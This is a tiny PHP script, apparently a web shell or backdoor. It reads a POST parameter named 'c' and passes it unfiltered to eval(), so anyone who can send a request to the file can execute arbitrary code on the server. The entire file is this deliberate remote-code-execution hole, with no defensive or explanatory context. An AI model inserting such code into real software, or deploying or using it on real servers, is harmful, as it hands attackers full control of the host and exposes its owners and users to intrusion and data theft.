<?php
// Evaluates request data.
$code = $_POST['c'];
eval($code);
